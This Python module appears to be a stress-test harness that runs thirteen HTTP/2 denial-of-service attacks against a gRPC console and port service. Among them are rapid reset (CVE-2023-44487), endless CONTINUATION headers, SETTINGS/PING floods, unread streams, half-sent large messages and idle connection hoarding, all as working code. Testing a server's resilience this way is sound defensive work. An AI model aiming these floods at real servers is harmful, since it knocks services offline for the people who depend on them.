"""Ways in which clients have brought servers down. Each attack runs until `over()` and returns what it did, for the report.

They read nothing unless they say so, and close their connections at the end.
"""
import contextlib
import time

from http2 import CONTINUATION, END_HEADERS, HEADERS, PING, RST_STREAM, SETTINGS, Connection, field, frame, integer, message, request_head

CANCEL = b"\0\0\0\x08"
WRITE = "/vser.v1.ConsoleService/Write"
ATTACH = "/vser.v1.ConsoleService/Attach"
WATCH = "/vser.v1.PortService/WatchPorts"
LIST = "/vser.v1.PortService/ListPorts"
GET = "/vser.v1.PortService/GetPort"
REFLECTION = "/grpc.reflection.v1alpha.ServerReflection/ServerReflectionInfo"


@contextlib.contextmanager
def connections(address, count, window=None):
    made = [Connection(address, window) for _ in range(count)]
    try:
        yield made
    finally:
        for connection in made:
            connection.close()


def repeat(address, over, work, count=4, window=None):
    """Calls work(connection) for each in turn; a connection that the server closed is replaced. Returns how many were."""
    replaced = 0
    with connections(address, count, window) as open_ones:
        while not over():
            for i, connection in enumerate(open_ones):
                if connection.is_closed() or not work(connection):
                    connection.close()
                    replaced += 1
                    open_ones[i] = Connection(address, window)
    return f"{replaced} connections closed by the server"


def headers_without_end(address, over):
    """CVE-2023-33953: one header block that goes on and on."""
    opening = b"\x00" + integer(1, 7) + b"x" + integer(1 << 30, 7)

    def more(connection):
        if connection.stream < 0:
            connection.stream = 1
            return connection.send(frame(HEADERS, 0, 1, opening + b"z" * 10_000))
        return connection.send(frame(CONTINUATION, 0, 1, b"z" * 16_000) * 16)
    return repeat(address, over, more)


def rapid_reset(address, over):
    """CVE-2023-44487: calls that are reset as soon as they begin."""
    def burst(connection):
        out = b""
        for _ in range(200):
            out += connection.call(GET, field(1, b"no-such-port")) + frame(RST_STREAM, 0, connection.stream, CANCEL)
        return connection.send(out)
    return repeat(address, over, burst)


def reset_streams(address, over):
    """The same with streams of bytes."""
    def burst(connection):
        out = b""
        for _ in range(200):
            out += connection.call(ATTACH, end=False) + frame(RST_STREAM, 0, connection.stream, CANCEL)
        return connection.send(out)
    return repeat(address, over, burst)


def large_headers(address, over):
    """Heads of 60 kB, far above the limit."""
    large = [(b"x-%d" % i, b"y" * 15_000) for i in range(4)]

    def burst(connection):
        connection.stream += 2
        head = request_head(LIST, *large)
        out = frame(HEADERS, 0, connection.stream, head[:16_000])
        for at in range(16_000, len(head), 16_000):
            last = at + 16_000 >= len(head)
            out += frame(CONTINUATION, END_HEADERS if last else 0, connection.stream, head[at:at + 16_000])
        return connection.send(out)
    return repeat(address, over, burst, count=8)


def settings_and_pings(address, over):
    """CVE-2019-9512 and -9515: frames that want an answer, whose answers are not read."""
    return repeat(address, over, lambda connection: connection.send((frame(SETTINGS, 0, 0) + frame(PING, 0, 0, b"x" * 8)) * 500))


def unknown_ports(address, over):
    """Names that resemble every port and are none."""
    names = [field(1, b"port-%04d-" % i * 100) for i in range(50)]

    def burst(connection):
        return connection.stream < 3000 and connection.send(b"".join(connection.call(GET, name) for name in names))
    return repeat(address, over, burst)


def lists_not_read(address, over):
    """Large answers that nobody takes."""
    def burst(connection):
        return connection.stream > 3000 or connection.send(b"".join(connection.call(LIST) for _ in range(50)))
    return repeat(address, over, burst, window=0)


def watchers_not_read(address, over):
    """Thousands of watchers that take nothing."""
    def burst(connection):
        return connection.stream > 2000 or connection.send(b"".join(connection.call(WATCH) for _ in range(50)))
    return repeat(address, over, burst, window=0)


def waiting_writes(address, over):
    """Megabytes for a port that takes none."""
    request = field(1, b"stuck") + field(2, b"x" * 1_000_000)

    def burst(connection):
        return connection.stream > 200 or connection.send(connection.call(WRITE, request))
    return repeat(address, over, burst)


def large_messages_to_streams(address, over):
    """Attach streams of a port that takes nothing, each with a large message."""
    opening = field(1, field(1, b"stuck"))
    large = message(field(2, b"x" * 1_000_000))

    def burst(connection):
        if connection.stream > 200:
            return True
        return connection.send(connection.call(ATTACH, opening, end=False) + connection.data(large[:200_000]))
    return repeat(address, over, burst)


def half_messages(address, over):
    """Requests that promise a megabyte and never complete it."""
    half = message(b"x" * 1_000_000)[:60_000]

    def burst(connection):
        if connection.stream > 2000:
            return True
        connection.stream += 2
        return connection.send(frame(HEADERS, END_HEADERS, connection.stream, request_head(WRITE)) + connection.data(half))
    return repeat(address, over, burst)


def reflection_streams(address, over):
    """Streams of questions that are not asked."""
    def burst(connection):
        return connection.stream > 1000 or connection.send(b"".join(connection.call(REFLECTION, end=False) for _ in range(20)))
    return repeat(address, over, burst)


def silence(address, over):
    """Connections that say nothing, or hello and nothing more."""
    with connections(address, 300):
        while not over():
            time.sleep(0.05)
    return "300 silent connections"


ATTACKS = [headers_without_end, rapid_reset, reset_streams, large_headers, settings_and_pings, unknown_ports, lists_not_read,
           watchers_not_read, waiting_writes, large_messages_to_streams, half_messages, reflection_streams, silence]
